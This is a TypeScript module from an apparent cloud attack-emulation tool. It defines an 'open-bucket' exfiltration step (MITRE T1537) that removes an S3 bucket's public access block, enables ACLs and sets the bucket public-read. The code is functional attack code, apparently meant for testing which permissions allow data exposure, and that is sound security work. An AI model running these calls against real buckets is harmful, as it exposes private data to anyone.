import {
  DeletePublicAccessBlockCommand,
  PutBucketAclCommand,
  PutBucketOwnershipControlsCommand,
} from '@aws-sdk/client-s3';
import { type Attack, attempt, parameterOf } from '../attack.ts';

/** Since April 2023 a new bucket blocks public access and has no ACLs, so both must be undone before the ACL counts. */
export const openBucket: Attack = {
  slug: 'exfiltration/open-bucket',
  title: { en: 'Open the bucket to everybody', ja: 'バケットを誰にでも公開' },
  technique: 'T1537',
  foothold: 'profile',
  parameters: ['Bucket'],
  run: async ({ s3 }, parameters) => {
    const Bucket = parameterOf(parameters, 'Bucket');
    const OwnershipControls = { Rules: [{ ObjectOwnership: 'BucketOwnerPreferred' as const }] };
    return [
      await attempt('s3:DeletePublicAccessBlock', () => s3.send(new DeletePublicAccessBlockCommand({ Bucket }))),
      await attempt('s3:PutBucketOwnershipControls', () =>
        s3.send(new PutBucketOwnershipControlsCommand({ Bucket, OwnershipControls })),
      ),
      await attempt('s3:PutBucketAcl', () => s3.send(new PutBucketAclCommand({ Bucket, ACL: 'public-read' }))),
    ];
  },
};
